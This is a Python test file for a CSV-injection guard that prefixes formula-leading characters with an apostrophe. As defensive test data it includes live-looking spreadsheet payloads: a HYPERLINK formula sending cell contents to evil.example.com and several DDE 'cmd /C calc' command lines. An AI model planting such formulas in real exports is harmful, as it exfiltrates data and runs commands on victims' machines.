import csv
import io

import pytest

from leadflip.kit.csvguard import guard

# OWASP, CSV Injection: the signs, the control characters, and the full-width forms.
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]


@pytest.mark.parametrize("start", STARTS)
def test_guard_marks_every_start_of_a_formula(start: str) -> None:
    assert guard(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("start", STARTS)
def test_guard_marks_a_start_that_stands_alone(start: str) -> None:
    assert guard(start) == f"'{start}"


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("https://evil.example.com?x="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+4930123456",
        "-1\n=1+1",
        "-12.5.1",
        "-12 ",
        "-٣",
    ],
)
def test_guard_marks_payloads(payload: str) -> None:
    assert guard(payload) == f"'{payload}"


@pytest.mark.parametrize("text", ["", "-12.50", "-7", "0", "a=1", "'=1", "Ana", "12-3", " =1", "|x", "%0A"])
def test_guard_leaves_numbers_and_plain_text(text: str) -> None:
    assert guard(text) == text


def test_guard_survives_the_csv_module() -> None:
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL).writerow([guard('=1";=2')])
    assert buffer.getvalue() == '"\'=1"";=2"\r\n'
